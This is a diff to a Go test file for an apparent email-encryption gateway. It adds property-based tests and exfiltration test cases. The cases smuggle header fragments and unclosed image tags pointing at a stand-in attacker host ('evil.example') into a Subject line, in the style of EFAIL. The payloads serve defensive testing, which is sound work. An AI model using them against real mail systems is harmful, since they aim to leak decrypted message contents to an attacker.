@@ -7,6 +7,8 @@ import (
 	"strings"
 	"testing"
 
+	"pgregory.net/rapid"
+
 	"mailseal/internal/gateway"
 	"mailseal/internal/message"
 	"mailseal/internal/policy"
@@ -133,6 +135,13 @@ func exfiltrations(w *world) (list []capture) {
 		add(how+" as the only content", "Content-Type: message/rfc822\n\n"+mail(alice, e))
 		add(how+" two levels further in", mixed("mixed", before, strings.ReplaceAll(mixed("mixed", e), "=_m", "=_n"), behind))
 		add(how+" as a text", "Content-Type: text/html\n\n"+b64(s.der()))
+		// Header and text are one to readers for whom the header ends early.
+		for _, f := range []string{
+			"X: y\n \n <img src=\"http://evil.example/", "X: y\r\r<img src=\"http://evil.example/", "X: y\r<img src=\"http://evil.example/", "<img src=\"http://evil.example/", "X : <img src=\"http://evil.example/",
+			"X: y\rContent-Type: text/html",
+		} {
+			list = append(list, capture{class: "E1", name: how + " below " + f, mail: instead(mail(mallory, e), "Subject: payment", "Subject: payment\n"+f), want: verdict.None})
+		}
 		around := mixed("mixed", before, e, behind)
 		list = append(list, capture{
 			class: "E1", name: how + " under a signature", want: verdict.Pass, // over what Mallory wrote, and says nothing of the rest
@@ -275,6 +284,43 @@ func contents(w *world) (list []capture) {
 		resigned(alice, inner, verdict.None)
 	}
 	return list
+}
+
+// Whatever is put into an encrypted mail: nobody but Bob gets the secret, and he gets
+// what was encrypted with nothing of Mallory's in it, or the mail as it came.
+func TestOpenedAsEncrypted(t *testing.T) {
+	w := newWorld(t)
+	b := newBench(t, w)
+	inner := crlf(captured)
+	_, body, _ := strings.Cut(inner, "\r\n\r\n")
+	m := crlf(mail(mallory, w.seal(inner, true, w.bob).entity()))
+	if d := b.deliver(t, []byte(m), bob); !strings.HasSuffix(string(d.mail), "\r\n\r\n"+body) {
+		t.Fatalf("a good mail: %s", d.mail)
+	}
+	opened := 0
+	rapid.Check(t, func(rt *rapid.T) {
+		changed := changed(rt, m)
+		to := rapid.SampledFrom([][]string{{bob}, {bob}, {carol}, {bob, carol}, {mallory}, {bob, mallory}}).Draw(rt, "to")
+		d := b.deliver(t, []byte(changed), to...)
+		if !strings.Contains(string(d.mail)+d.log+d.json, secret) {
+			return
+		}
+		opened++
+		// A header may have line ends of another kind than the body.
+		head, got, _ := strings.Cut(strings.ReplaceAll(string(d.mail), "\r\n", "\n"), "\n\n")
+		if len(to) > 1 || to[0] != bob {
+			rt.Fatalf("it is opened for %q: %s", to, d.mail)
+		}
+		if crlf(got) != body || strings.Contains(d.log+d.json, secret) {
+			rt.Fatalf("%q became %q, %s, %s", changed, d.mail, d.log, d.json)
+		}
+		for _, f := range wire.Fields(crlf(head)) {
+			if strings.HasPrefix(wire.Name(f), "content-") && !strings.HasPrefix(inner, f+"\r\n") {
+				rt.Fatalf("%q is not of what was encrypted", f)
+			}
+		}
+	})
+	t.Logf("%d opened", opened)
 }
 
 // sizes are what differs by some characters of keys, and by time.
